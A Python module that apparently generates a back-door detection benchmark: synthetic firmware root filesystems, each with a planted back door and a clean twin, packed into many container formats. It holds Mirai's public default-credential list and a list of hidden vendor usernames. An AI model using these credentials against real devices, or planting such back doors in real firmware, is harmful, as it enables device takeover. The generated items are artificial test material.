"""Firmware family: back doors planted in the configuration of a small synthetic root filesystem.

Each variant builds a realistic little root filesystem (BusyBox/SysV init with S?? scripts, OpenWrt
with procd/UCI, or systemd), applies one class-specific plant to a copy (the clean twin gets the
honest counterpart at the same place), and packs both trees into the same container (squashfs with
several compressors, cpio / initramfs, jffs2 LE/BE, UBIFS / UBI, ext2/ext4, cramfs, tar, zip, uImage,
a vendor or TRX header with the rootfs at an odd offset, nested update packages, or a plain directory).

Classes: fw-account, fw-boot-shell, fw-debug-console, fw-phone-home, fw-key, fw-obfuscated.

Shapes and containers are spread over the variants: a split-independent permutation per class is
walked from offset 0 (train) or 8 (test), so 16 variants cover up to 16 shapes and containers; every
other choice (names, strings, ports, hosts, keys, flavour, sub-shape) comes from the per-variant
stream `ctx.rng_for(cls, str(index))`.

Nothing here executes the generated files. Keys are derived deterministically from the stream.
"""
from __future__ import annotations

import base64
import copy
import hashlib
import json
import os
import random
import shutil
import struct
import subprocess
import warnings
import zlib
from pathlib import Path

from .common import (EPOCH, doc_host, doc_ip, gzip_bytes, make_cpio, make_ext, make_squashfs,
                     make_tar, make_uimage, make_zip, port, product, secret, token_hex, tool, word)

FAMILY = "firmware"

SPLIT_OFFSET = {"train": 0, "test": 8}
DOC_NETS = ["192.0.2", "198.51.100", "203.0.113"]


def T(text: str, **kw) -> str:
    """Tiny template: replaces @name@ tokens (keeps shell ${...} readable)."""
    for k, v in kw.items():
        text = text.replace(f"@{k}@", str(v))
    return text


# ----------------------------------------------------------------------------- password hashes

ITOA64 = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def salt(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(ITOA64) for _ in range(n))


def _to64(v: int, n: int) -> str:
    out = ""
    for _ in range(n):
        out += ITOA64[v & 0x3F]
        v >>= 6
    return out


def md5crypt(pw: str, s: str, magic: str = "$1$") -> str:
    p, sl, m = pw.encode(), s[:8].encode(), magic.encode()
    final = hashlib.md5(p + sl + p).digest()
    ctx = p + m + sl
    n = len(p)
    while n > 0:
        ctx += final[:min(16, n)]
        n -= 16
    i = len(p)
    while i:
        ctx += b"\0" if i & 1 else p[:1]
        i >>= 1
    final = hashlib.md5(ctx).digest()
    for i in range(1000):
        c = p if i & 1 else final
        if i % 3:
            c += sl
        if i % 7:
            c += p
        c += final if i & 1 else p
        final = hashlib.md5(c).digest()
    f = final
    enc = (_to64((f[0] << 16) | (f[6] << 8) | f[12], 4) + _to64((f[1] << 16) | (f[7] << 8) | f[13], 4)
           + _to64((f[2] << 16) | (f[8] << 8) | f[14], 4) + _to64((f[3] << 16) | (f[9] << 8) | f[15], 4)
           + _to64((f[4] << 16) | (f[10] << 8) | f[5], 4) + _to64(f[11], 2))
    return f"{magic}{s[:8]}${enc}"


_SHA512_ORDER = [(0, 21, 42), (22, 43, 1), (44, 2, 23), (3, 24, 45), (25, 46, 4), (47, 5, 26), (6, 27, 48),
                 (28, 49, 7), (50, 8, 29), (9, 30, 51), (31, 52, 10), (53, 11, 32), (12, 33, 54), (34, 55, 13),
                 (56, 14, 35), (15, 36, 57), (37, 58, 16), (59, 17, 38), (18, 39, 60), (40, 61, 19), (62, 20, 41)]
_SHA256_ORDER = [(0, 10, 20), (21, 1, 11), (12, 22, 2), (3, 13, 23), (24, 4, 14), (15, 25, 5), (6, 16, 26),
                 (27, 7, 17), (18, 28, 8), (9, 19, 29)]


def shacrypt(pw: str, s: str, bits: int = 512) -> str:
    H = hashlib.sha512 if bits == 512 else hashlib.sha256
    hl = 64 if bits == 512 else 32
    p, sl = pw.encode(), s[:16].encode()
    B = H(p + sl + p).digest()
    a = p + sl
    n = len(p)
    while n > hl:
        a += B
        n -= hl
    a += B[:n]
    n = len(p)
    while n > 0:
        a += B if n & 1 else p
        n >>= 1
    A = H(a).digest()
    DP = H(p * len(p)).digest()
    P = (DP * (len(p) // hl + 1))[:len(p)]
    DS = H(sl * (16 + A[0])).digest()
    S = (DS * (len(sl) // hl + 1))[:len(sl)]
    C = A
    for r in range(5000):
        c = P if r & 1 else C
        if r % 3:
            c += S
        if r % 7:
            c += P
        c += C if r & 1 else P
        C = H(c).digest()
    if bits == 512:
        enc = "".join(_to64((C[i] << 16) | (C[j] << 8) | C[k], 4) for i, j, k in _SHA512_ORDER) + _to64(C[63], 2)
        return f"$6${s[:16]}${enc}"
    enc = "".join(_to64((C[i] << 16) | (C[j] << 8) | C[k], 4) for i, j, k in _SHA256_ORDER)
    enc += _to64((C[31] << 8) | C[30], 3)
    return f"$5${s[:16]}${enc}"


def descrypt(pw: str, s: str) -> str | None:
    """Traditional DES crypt through libc (libxcrypt); None where unavailable."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            import crypt  # noqa: PLC0415
        h = crypt.crypt(pw, s[:2])
        return h if h and len(h) == 13 else None
    except Exception:  # noqa: BLE001
        return None


def hash_pw(rng: random.Random, pw: str, scheme: str) -> tuple[str, str]:
    """(hash, scheme actually used). Salt drawn from rng whatever the scheme (stable stream use)."""
    s = salt(rng, 16)
    if scheme == "des":
        h = descrypt(pw, s[:2])
        if h:
            return h, "des"
        scheme = "md5crypt"
    if scheme == "md5crypt":
        return md5crypt(pw, s[:8]), scheme
    if scheme == "sha256crypt":
        return shacrypt(pw, s, 256), scheme
    return shacrypt(pw, s, 512), "sha512crypt"


def strong_hash(rng: random.Random) -> str:
    return hash_pw(rng, secret(rng, 20), "sha512crypt")[0]


# Public default-credential lists (Mirai's scanner table and common IoT defaults).
MIRAI_CREDS = [
    ("root", "xc3511"), ("root", "vizxv"), ("root", "888888"), ("root", "xmhdipc"), ("root", "default"),
    ("root", "juantech"), ("root", "123456"), ("root", "54321"), ("support", "support"), ("root", "12345"),
    ("admin", "password"), ("root", "root"), ("user", "user"), ("root", "pass"), ("admin", "admin1234"),
    ("root", "1111"), ("admin", "smcadmin"), ("admin", "1111"), ("root", "666666"), ("root", "password"),
    ("root", "1234"), ("root", "klv123"), ("service", "service"), ("supervisor", "supervisor"),
    ("guest", "guest"), ("guest", "12345"), ("admin1", "password"), ("administrator", "1234"),
    ("ubnt", "ubnt"), ("root", "klv1234"), ("root", "Zte521"), ("root", "hi3518"), ("root", "jvbzd"),
    ("root", "anko"), ("root", "zlxx."), ("root", "7ujMko0vizxv"), ("root", "7ujMko0admin"),
    ("root", "system"), ("root", "ikwb"), ("root", "dreambox"), ("root", "user"), ("root", "realtek"),
    ("root", "00000000"), ("admin", "1111111"), ("admin", "54321"), ("admin", "123456"),
    ("admin", "7ujMko0admin"), ("admin", "meinsm"), ("tech", "tech"), ("root", "GM8182"),
    ("root", "hunt5759"), ("root", "tsgoingon"), ("root", "ipcam_rt5350"), ("root", "cat1029"),
]
HIDDEN_USERS = ["support", "tech", "diag", "mfg", "factory", "super", "operator", "vendor", "service",
                "maint", "debug", "engineer", "rma", "oem", "telecomadmin", "admin2", "sysadm", "qa"]


def weak_password(rng: random.Random) -> tuple[str, str]:
    """(password, source): from the public default lists or a random vendor string."""
    if rng.random() < 0.6:
        return rng.choice(MIRAI_CREDS)[1], "default-credential-list"
    return secret(rng, rng.randint(6, 12), "abcdefghijklmnopqrstuvwxyz0123456789"), "random-vendor"


# ----------------------------------------------------------------------------- deterministic keys

def _is_probable_prime(n: int, rng: random.Random, k: int = 24) -> bool:
    if n < 2:
        return False
    for sp in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47, 53, 59, 61, 67, 71, 73, 79, 83, 89, 97):
        if n % sp == 0:
            return n == sp
    d, s = n - 1, 0
    while d % 2 == 0:
        d //= 2
        s += 1
    for _ in range(k):
        a = rng.randrange(2, n - 2)
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def _prime(rng: random.Random, bits: int) -> int:
    while True:
        c = rng.getrandbits(bits) | (3 << (bits - 2)) | 1
        if (c - 1) % 65537 == 0:
            continue
        if _is_probable_prime(c, rng):
            return c


class Key:
    """A private key derived from the variant's stream; kind rsa|ecdsa|ed25519."""

    def __init__(self, rng: random.Random, kind: str, bits: int = 2048):
        from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa  # noqa: PLC0415
        self.kind = kind
        if kind == "ed25519":
            self.key = ed25519.Ed25519PrivateKey.from_private_bytes(rng.randbytes(32))
        elif kind == "ecdsa":
            order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
            self.key = ec.derive_private_key(rng.randrange(1, order), ec.SECP256R1())
        else:
            e = 65537
            while True:
                p, q = _prime(rng, bits // 2), _prime(rng, bits // 2)
                if p != q:
                    break
            if p < q:
                p, q = q, p
            n = p * q
            d = pow(e, -1, (p - 1) * (q - 1))
            self.key = rsa.RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p),
                                             rsa.RSAPublicNumbers(e, n)).private_key()

    # -- formats
    def pem(self, fmt: str = "pkcs8") -> str:
        from cryptography.hazmat.primitives import serialization as S  # noqa: PLC0415
        pf = S.PrivateFormat.PKCS8 if fmt == "pkcs8" or self.kind == "ed25519" else S.PrivateFormat.TraditionalOpenSSL
        return self.key.private_bytes(S.Encoding.PEM, pf, S.NoEncryption()).decode()

    def der(self) -> bytes:
        from cryptography.hazmat.primitives import serialization as S  # noqa: PLC0415
        pf = S.PrivateFormat.PKCS8 if self.kind == "ed25519" else S.PrivateFormat.TraditionalOpenSSL
        return self.key.private_bytes(S.Encoding.DER, pf, S.NoEncryption())

    def _parts(self):
        from cryptography.hazmat.primitives import serialization as S  # noqa: PLC0415
        if self.kind == "ed25519":
            priv = self.key.private_bytes(S.Encoding.Raw, S.PrivateFormat.Raw, S.NoEncryption())
            pub = self.key.public_key().public_bytes(S.Encoding.Raw, S.PublicFormat.Raw)
            return priv, pub
        if self.kind == "ecdsa":
            nums = self.key.private_numbers()
            q = b"\x04" + nums.public_numbers.x.to_bytes(32, "big") + nums.public_numbers.y.to_bytes(32, "big")
            return nums.private_value, q
        return self.key.private_numbers(), None

    def ssh_type(self) -> str:
        return {"ed25519": "ssh-ed25519", "ecdsa": "ecdsa-sha2-nistp256", "rsa": "ssh-rsa"}[self.kind]

    def pub_blob(self) -> bytes:
        if self.kind == "ed25519":
            _, pub = self._parts()
            return _sshstr(b"ssh-ed25519") + _sshstr(pub)
        if self.kind == "ecdsa":
            _, q = self._parts()
            return _sshstr(b"ecdsa-sha2-nistp256") + _sshstr(b"nistp256") + _sshstr(q)
        nums, _ = self._parts()
        return _sshstr(b"ssh-rsa") + _mpint(nums.public_numbers.e) + _mpint(nums.public_numbers.n)

    def ssh_public(self, comment: str) -> str:
        return f"{self.ssh_type()} {base64.b64encode(self.pub_blob()).decode()} {comment}"

    def openssh_private(self, comment: str, check: int) -> str:
        if self.kind == "ed25519":
            priv, pub = self._parts()
            body = _sshstr(b"ssh-ed25519") + _sshstr(pub) + _sshstr(priv + pub)
        elif self.kind == "ecdsa":
            d, q = self._parts()
            body = _sshstr(b"ecdsa-sha2-nistp256") + _sshstr(b"nistp256") + _sshstr(q) + _mpint(d)
        else:
            n, _ = self._parts()
            body = (_sshstr(b"ssh-rsa") + _mpint(n.public_numbers.n) + _mpint(n.public_numbers.e) + _mpint(n.d)
                    + _mpint(n.iqmp) + _mpint(n.p) + _mpint(n.q))
        sec = struct.pack(">II", check, check) + body + _sshstr(comment.encode())
        pad = 1
        while len(sec) % 8:
            sec += bytes([pad])
            pad += 1
        blob = (b"openssh-key-v1\0" + _sshstr(b"none") + _sshstr(b"none") + _sshstr(b"") + struct.pack(">I", 1)
                + _sshstr(self.pub_blob()) + _sshstr(sec))
        b64 = base64.b64encode(blob).decode()
        lines = [b64[i:i + 70] for i in range(0, len(b64), 70)]
        return "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(lines) + "\n-----END OPENSSH PRIVATE KEY-----\n"

    def dropbear(self) -> bytes:
        if self.kind == "ed25519":
            priv, pub = self._parts()
            return _sshstr(b"ssh-ed25519") + _sshstr(priv + pub)
        if self.kind == "ecdsa":
            d, q = self._parts()
            return _sshstr(b"ecdsa-sha2-nistp256") + _sshstr(b"nistp256") + _sshstr(q) + _mpint(d)
        n, _ = self._parts()
        return (_sshstr(b"ssh-rsa") + _mpint(n.public_numbers.e) + _mpint(n.public_numbers.n) + _mpint(n.d)
                + _mpint(n.p) + _mpint(n.q))


def _sshstr(b: bytes) -> bytes:
    return struct.pack(">I", len(b)) + b


def _mpint(v: int) -> bytes:
    if v == 0:
        return _sshstr(b"")
    raw = v.to_bytes((v.bit_length() + 7) // 8, "big")
    if raw[0] & 0x80:
        raw = b"\0" + raw
    return _sshstr(raw)


def ca_certificate(rng: random.Random, org: str, cn: str) -> str:
    """A public, self-signed CA certificate (deterministic: Ed25519 or RSA PKCS#1 v1.5 signature)."""
    import datetime  # noqa: PLC0415

    from cryptography import x509  # noqa: PLC0415
    from cryptography.hazmat.primitives import hashes, serialization  # noqa: PLC0415
    from cryptography.x509.oid import NameOID  # noqa: PLC0415
    kind = rng.choice(["ed25519", "rsa"])
    k = Key(rng, kind, 2048)
    name = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, rng.choice(["US", "DE", "TW", "CN", "KR", "FR"])),
                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, org),
                      x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    start = datetime.datetime(2023, 1, 1, tzinfo=datetime.timezone.utc)
    b = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(k.key.public_key())
         .serial_number(rng.getrandbits(63) + 1).not_valid_before(start)
         .not_valid_after(start + datetime.timedelta(days=3650 * 2))
         .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True))
    cert = b.sign(k.key, None if kind == "ed25519" else hashes.SHA256())
    return cert.public_bytes(serialization.Encoding.PEM).decode()


# ----------------------------------------------------------------------------- in-memory trees

class FS:
    """A root filesystem held in memory: files (bytes, mode), symlinks and empty directories."""

    def __init__(self):
        self.files: dict[str, list] = {}
        self.links: dict[str, str] = {}
        self.dirs: set[str] = set()

    def put(self, path: str, data, mode: int = 0o644) -> str:
        path = path.strip("/")
        if isinstance(data, str):
            data = data.encode()
        self.files[path] = [data, mode]
        self.links.pop(path, None)
        return path

    def exe(self, path: str, data) -> str:
        return self.put(path, data, 0o755)

    def link(self, path: str, target: str) -> None:
        self.links[path.strip("/")] = target

    def mkdir(self, *paths: str) -> None:
        for p in paths:
            self.dirs.add(p.strip("/"))

    def has(self, path: str) -> bool:
        return path.strip("/") in self.files

    def text(self, path: str) -> str:
        return self.files[path.strip("/")][0].decode()

    def mode(self, path: str) -> int:
        return self.files[path.strip("/")][1]

    def set_text(self, path: str, text: str) -> None:
        self.files[path.strip("/")][0] = text.encode()

    def append(self, path: str, text: str, mode: int = 0o644) -> None:
        if self.has(path):
            self.set_text(path, self.text(path) + text)
        else:
            self.put(path, text, mode)

    def replace(self, path: str, old: str, new: str) -> None:
        t = self.text(path)
        if old not in t:
            raise ValueError(f"{path}: {old!r} not found")
        self.set_text(path, t.replace(old, new, 1))

    def remove(self, path: str) -> None:
        self.files.pop(path.strip("/"), None)
        self.links.pop(path.strip("/"), None)

    def copy(self) -> "FS":
        return copy.deepcopy(self)

    def materialize(self, root: Path) -> Path:
        root.mkdir(parents=True, exist_ok=True)
        for d in sorted(self.dirs):
            (root / d).mkdir(parents=True, exist_ok=True)
        for p in sorted(self.files):
            data, mode = self.files[p]
            f = root / p
            f.parent.mkdir(parents=True, exist_ok=True)
            f.write_bytes(data)
            os.chmod(f, mode)
        for p in sorted(self.links):
            f = root / p
            f.parent.mkdir(parents=True, exist_ok=True)
            if f.exists() or f.is_symlink():
                f.unlink()
            os.symlink(self.links[p], f)
        for d in sorted([root, *[x for x in root.rglob("*") if x.is_dir() and not x.is_symlink()]]):
            os.chmod(d, 0o755)
        paths = sorted(root.rglob("*"), reverse=True) + [root]
        for x in paths:
            os.utime(x, (EPOCH, EPOCH), follow_symlinks=False)
        return root


# ----------------------------------------------------------------------------- containers

CONTAINERS = ["dir", "squashfs-gzip", "squashfs-xz", "squashfs-lzo", "squashfs-zstd", "cpio",
              "initramfs-cpio-gz", "jffs2-le", "jffs2-be", "ubifs", "ubi", "ext2", "ext4", "cramfs",
              "tar", "tar-gz", "zip", "uimage-squashfs", "uimage-multi", "vendor-header", "trx",
              "nested-zip", "nested-tar", "sysupgrade-tar"]

_CONTAINER_TOOLS = {"squashfs": "mksquashfs", "cpio": "cpio", "initramfs": "cpio", "jffs2": "mkfs.jffs2",
                    "ubifs": "mkfs.ubifs", "ubi": "ubinize", "ext2": "mke2fs", "ext4": "mke2fs",
                    "cramfs": "mkfs.cramfs", "uimage": "mkimage", "vendor": "mksquashfs", "trx": "mksquashfs",
                    "nested": "mkimage", "sysupgrade": "mksquashfs"}


def container_available(name: str) -> bool:
    need = _CONTAINER_TOOLS.get(name.split("-")[0])
    if name in ("ext2", "ext4") and not tool("debugfs"):
        return False
    if name == "ubi" and not tool("mkfs.ubifs"):
        return False
    if name.startswith("nested") and not tool("mksquashfs"):
        return False
    return need is None or tool(need) is not None


def kernel_blob(rng: random.Random) -> bytes:
    """Opaque kernel-like blob: an LZMA-alone header followed by incompressible bytes."""
    n = rng.randint(12, 36) * 1024
    return b"\x5d\x00\x00\x80\x00" + struct.pack("<Q", n * 3) + rng.randbytes(n)


def plan_container(rng: random.Random, name: str, P: dict) -> dict:
    """Draw every random parameter of the container once (both twins are packed identically)."""
    c: dict = {"name": name}
    if name in ("uimage-multi", "vendor-header", "trx", "nested-zip", "nested-tar", "sysupgrade-tar", "ubi"):
        c["kernel"] = kernel_blob(rng)
    if name in ("ubifs", "ubi") or (name == "sysupgrade-tar" and rng.random() < 0.4 and tool("mkfs.ubifs")):
        c["ubifs"] = {"uuid": rng.randbytes(16), "compr": rng.choice(["lzo", "zlib", "favor_lzo"]),
                      "seq": rng.getrandbits(31)}
    if name in ("jffs2-le", "jffs2-be"):
        c["erase"] = rng.choice([0x10000, 0x20000])
        c["pad"] = rng.random() < 0.5
    if name == "cramfs":
        c["endian"] = rng.choice(["little", "big"])
    if name in ("ext2", "ext4"):
        c["spare_kb"] = rng.choice([512, 1024, 2048])
    if name == "vendor-header":
        c["magic"] = rng.choice([b"FWUP", b"HDR1", b"NVFW", b"IMG0", P["vendor"][:4].upper().encode().ljust(4, b"_")])
        c["inner"] = rng.choice(["squashfs-xz", "squashfs-gzip", "squashfs-lzo", "cramfs", "jffs2-be"])
        c["gap"] = rng.randint(0x40, 0x9000) | rng.choice([0, 1])  # rootfs at an odd, unaligned offset
        c["endian"] = rng.choice([">", "<"])
        c["trailer"] = rng.randbytes(16)
    if name == "trx":
        c["inner"] = rng.choice(["squashfs-xz", "squashfs-gzip", "jffs2-le"])
    if name in ("uimage-squashfs", "uimage-multi"):
        c["inner"] = rng.choice(["squashfs-xz", "squashfs-gzip", "squashfs-zstd"]) if name == "uimage-multi" else "squashfs-xz"
    if name == "nested-zip":
        c["inner_pkg"] = rng.choice(["vendor-header", "uimage-multi"])
        c["inner"] = rng.choice(["squashfs-xz", "squashfs-gzip"])
        c["magic"] = rng.choice([b"FWUP", b"NVFW", b"IMG0"])
        c["gap"] = rng.randint(0x100, 0x4000)
        c["endian"] = ">"
        c["trailer"] = rng.randbytes(16)
    if name == "nested-tar":
        c["inner_pkg"] = rng.choice(["uimage-multi", "uimage-squashfs"])
        c["inner"] = rng.choice(["squashfs-xz", "squashfs-zstd"])
        c["gz"] = rng.random() < 0.6
    if name == "sysupgrade-tar":
        c["inner"] = "ubifs" if "ubifs" in c else "squashfs-xz"
    return c


def _ubifs(tree: Path, out: Path, u: dict) -> Path:
    subprocess.run(["mkfs.ubifs", "-r", str(tree), "-m", "512", "-e", "15360", "-c", "1024", "-U",
                    "-x", u["compr"], "-o", str(out)], check=True, capture_output=True)
    data = bytearray(out.read_bytes())
    # mkfs.ubifs copies st_atime/st_ctime into every inode node and draws a random UUID: pin both
    # (UUID in the superblock node, times in inode nodes) and recompute the node CRCs.
    off = 0
    while off + 24 <= len(data):
        if data[off:off + 4] != b"\x31\x18\x10\x06":
            off += 8
            continue
        ln = struct.unpack_from("<I", data, off + 16)[0]
        ntype = data[off + 20]
        if ln < 24 or off + ln > len(data) or \
                struct.unpack_from("<I", data, off + 4)[0] != (~zlib.crc32(bytes(data[off + 8:off + ln]))) & 0xFFFFFFFF:
            off += 8
            continue
        if ntype == 6:  # superblock
            data[off + 108:off + 124] = u["uuid"]
        elif ntype == 0:  # inode: atime, ctime, mtime (sec) then nsec
            struct.pack_into("<QQQIII", data, off + 56, EPOCH, EPOCH, EPOCH, 0, 0, 0)
        if ntype in (0, 6):
            struct.pack_into("<I", data, off + 4, (~zlib.crc32(bytes(data[off + 8:off + ln]))) & 0xFFFFFFFF)
        off += (ln + 7) & ~7
    out.write_bytes(bytes(data))
    return out


def _ext(tree: Path, out: Path, fstype: str, size_kb: int) -> Path:
    """make_ext, then pin the inode times mke2fs -d copied from the tree (ctime/atime of the build)."""
    make_ext(tree, out, fstype=fstype, size_kb=size_kb)
    paths = ["/", "/lost+found"] + ["/" + p.relative_to(tree).as_posix() for p in sorted(tree.rglob("*"))]
    cmds = []
    for p in paths:
        for f in ("atime", "ctime", "mtime", "crtime"):
            cmds.append(f"sif \"{p}\" {f} @{EPOCH}")
        if fstype != "ext2":
            for f in ("atime_extra", "ctime_extra", "mtime_extra", "crtime_extra"):
                cmds.append(f"sif \"{p}\" {f} 0")
    cmdfile = out.with_suffix(".debugfs")
    cmdfile.write_text("\n".join(cmds) + "\n")
    env = dict(os.environ, E2FSPROGS_FAKE_TIME=str(EPOCH), SOURCE_DATE_EPOCH=str(EPOCH))
    subprocess.run(["debugfs", "-w", "-f", str(cmdfile), str(out)], check=True, capture_output=True, env=env)
    cmdfile.unlink()
    return out


def _fs_image(kind: str, tree: Path, out: Path, c: dict) -> Path:
    """One bare filesystem image of the tree."""
    if kind.startswith("squashfs-"):
        return make_squashfs(tree, out, comp=kind.split("-", 1)[1])
    if kind.startswith("jffs2"):
        endian = "-b" if kind.endswith("be") else "-l"
        cmd = ["mkfs.jffs2", "-r", str(tree), "-o", str(out), "-e", hex(c.get("erase", 0x10000)), endian, "-n", "-U"]
        if c.get("pad"):
            cmd.append("-p")
        subprocess.run(cmd, check=True, capture_output=True)
        return out
    if kind == "cramfs":
        subprocess.run(["mkfs.cramfs", "-N", c.get("endian", "little"), "-n", "Compressed ROMFS", str(tree), str(out)],
                       check=True, capture_output=True)
        return out
    if kind == "ubifs":
        return _ubifs(tree, out, c["ubifs"])
    raise ValueError(kind)


def _vendor_header(c: dict, P: dict, kernel: bytes, rootfs: bytes) -> bytes:
    e = c["endian"]
    hdr_len = 0x100
    k_off = hdr_len
    r_off = k_off + len(kernel) + c["gap"]
    total = r_off + len(rootfs) + len(c["trailer"])
    head = struct.pack(e + "4sIII16s16s32sIIII", c["magic"], hdr_len, total, zlib.crc32(kernel + rootfs),
                       P["vendor"].encode()[:16], P["model"].encode()[:16],
                       f"V{P['version']} build {P['build']}".encode()[:32], k_off, len(kernel), r_off, len(rootfs))
    head = head.ljust(hdr_len, b"\0")
    return head + kernel + b"\xff" * c["gap"] + rootfs + c["trailer"]


def _trx(kernel: bytes, rootfs: bytes) -> bytes:
    hdr = 28
    k_off = hdr
    r_off = (k_off + len(kernel) + 3) & ~3
    body_k = kernel.ljust(r_off - k_off, b"\0")
    total = (r_off + len(rootfs) + 0xFFF) & ~0xFFF
    tail = rootfs.ljust(total - r_off, b"\xff")
    rest = struct.pack("<IIII", 1 << 16, k_off, r_off, 0) + body_k + tail
    crc = (~zlib.crc32(rest)) & 0xFFFFFFFF
    return struct.pack("<4sII", b"HDR0", total, crc) + rest


def pack(c: dict, tree: Path, outdir: Path, P: dict) -> tuple[Path, str, str, str]:
    """Pack tree per plan c. Returns (artifact path, suffix, format description, kind)."""
    name = c["name"]
    outdir.mkdir(parents=True, exist_ok=True)
    tmp = outdir / "parts"
    tmp.mkdir(exist_ok=True)
    if name == "dir":
        dest = outdir / "rootfs"
        shutil.move(str(tree), str(dest))
        return dest, "", "directory", "rootfs"
    if name.startswith("squashfs-"):
        return _fs_image(name, tree, outdir / "rootfs.squashfs", c), ".squashfs", name, "firmware"
    if name == "cpio":
        return make_cpio(tree, outdir / "rootfs.cpio"), ".cpio", "cpio-newc", "firmware"
    if name == "initramfs-cpio-gz":
        return make_cpio(tree, outdir / "initramfs.cpio.gz", gz=True), ".cpio.gz", "cpio-newc-gzip initramfs", "firmware"
    if name in ("jffs2-le", "jffs2-be"):
        return _fs_image(name, tree, outdir / "rootfs.jffs2", c), ".jffs2", name, "firmware"
    if name == "cramfs":
        return _fs_image("cramfs", tree, outdir / "rootfs.cramfs", c), ".cramfs", f"cramfs-{c['endian']}", "firmware"
    if name == "ubifs":
        return _ubifs(tree, outdir / "rootfs.ubifs", c["ubifs"]), ".ubifs", "ubifs", "firmware"
    if name == "ubi":
        img = _ubifs(tree, tmp / "rootfs.ubifs", c["ubifs"])
        kern = tmp / "kernel.bin"
        kern.write_bytes(c["kernel"])
        ini = tmp / "ubinize.cfg"
        ini.write_text(f"[kernel]\nmode=ubi\nimage={kern}\nvol_id=0\nvol_type=static\nvol_name=kernel\n\n"
                       f"[rootfs]\nmode=ubi\nimage={img}\nvol_id=1\nvol_type=dynamic\nvol_name=rootfs\n"
                       "vol_flags=autoresize\n")
        out = outdir / "rootfs.ubi"
        subprocess.run(["ubinize", "-o", str(out), "-p", "16KiB", "-m", "512", "-Q", str(c["ubifs"]["seq"]), str(ini)],
                       check=True, capture_output=True)
        return out, ".ubi", "ubi(ubifs)", "firmware"
    if name in ("ext2", "ext4"):
        total = sum(p.stat().st_size for p in tree.rglob("*") if p.is_file() and not p.is_symlink())
        size = max(2048, (total // 1024) * 2 + c["spare_kb"])
        return _ext(tree, outdir / f"rootfs.{name}", name, size), f".{name}", name, "firmware"
    if name == "tar":
        return make_tar(tree, outdir / "rootfs.tar", compression=""), ".tar", "tar", "firmware"
    if name == "tar-gz":
        return make_tar(tree, outdir / "rootfs.tar.gz", compression="gz"), ".tar.gz", "tar.gz", "firmware"
    if name == "zip":
        return make_zip(tree, outdir / "rootfs.zip"), ".zip", "zip", "firmware"
    if name == "uimage-squashfs":
        sq = _fs_image(c["inner"], tree, tmp / "rootfs.squashfs", c)
        out = make_uimage(sq, outdir / "fw.uimage", name=f"{P['model']} rootfs", kind="filesystem", arch=P["uarch"])
        return out, ".bin", f"uimage(filesystem:{c['inner']})", "firmware"
    if name == "uimage-multi":
        return _uimage_multi(c, tree, tmp, outdir / "fw.uimage", P), ".bin", f"uimage-multi(kernel+{c['inner']})", "firmware"
    if name == "vendor-header":
        rootfs = _fs_image(c["inner"], tree, tmp / "rootfs.img", c).read_bytes()
        out = outdir / "fw.img"
        out.write_bytes(_vendor_header(c, P, c["kernel"], rootfs))
        return out, ".img", f"vendor-header(kernel+pad+{c['inner']}@odd-offset)", "firmware"
    if name == "trx":
        rootfs = _fs_image(c["inner"], tree, tmp / "rootfs.img", c).read_bytes()
        out = outdir / "fw.trx"
        out.write_bytes(_trx(c["kernel"], rootfs))
        return out, ".trx", f"trx(kernel+{c['inner']})", "firmware"
    if name == "nested-zip":
        pkg = tmp / "pkg"
        pkg.mkdir()
        binname = f"{P['model'].replace('-', '')}_V{P['version']}_{P['build']}.bin"
        if c["inner_pkg"] == "vendor-header":
            rootfs = _fs_image(c["inner"], tree, tmp / "rootfs.img", c).read_bytes()
            (pkg / binname).write_bytes(_vendor_header(c, P, c["kernel"], rootfs))
        else:
            _uimage_multi(c, tree, tmp, pkg / binname, P)
        md5 = hashlib.md5((pkg / binname).read_bytes()).hexdigest()
        (pkg / f"{binname}.md5").write_text(f"{md5}  {binname}\n")
        (pkg / "Release_Notes.txt").write_text(P["release_notes"])
        return make_zip(pkg, outdir / "update.zip"), ".zip", f"zip>{c['inner_pkg']}>{c['inner']}", "firmware"
    if name == "nested-tar":
        pkg = tmp / "pkg"
        top = pkg / f"{P['product']}-{P['version']}"
        top.mkdir(parents=True)
        if c["inner_pkg"] == "uimage-multi":
            _uimage_multi(c, tree, tmp, top / "firmware.img", P)
        else:
            sq = _fs_image(c["inner"], tree, tmp / "rootfs.squashfs", c)
            make_uimage(sq, top / "firmware.img", name=f"{P['model']} rootfs", kind="filesystem", arch=P["uarch"])
        digest = hashlib.sha256((top / "firmware.img").read_bytes()).hexdigest()
        (top / "manifest.json").write_text(json.dumps({"model": P["model"], "version": P["version"],
                                                       "build": P["build"], "files": {"firmware.img": digest}},
                                                      indent=2, sort_keys=True) + "\n")
        (top / "README").write_text(P["release_notes"])
        suffix = ".tar.gz" if c["gz"] else ".tar"
        out = make_tar(pkg, outdir / f"update{suffix}", compression="gz" if c["gz"] else "")
        return out, suffix, f"{suffix[1:]}>{c['inner_pkg']}>{c['inner']}", "firmware"
    if name == "sysupgrade-tar":
        pkg = tmp / "pkg"
        board = P["board"]
        top = pkg / f"sysupgrade-{board}"
        top.mkdir(parents=True)
        (top / "CONTROL").write_text(f"BOARD={board}\n")
        kern = tmp / "kernel.bin"
        kern.write_bytes(c["kernel"])
        make_uimage(kern, top / "kernel", name=f"{P['distname']} Linux-5.15", kind="kernel", comp="lzma", arch=P["uarch"])
        _fs_image(c["inner"], tree, top / "root", c)
        return make_tar(pkg, outdir / "sysupgrade.tar", compression=""), ".tar", f"sysupgrade-tar(kernel+{c['inner']})", "firmware"
    raise ValueError(name)


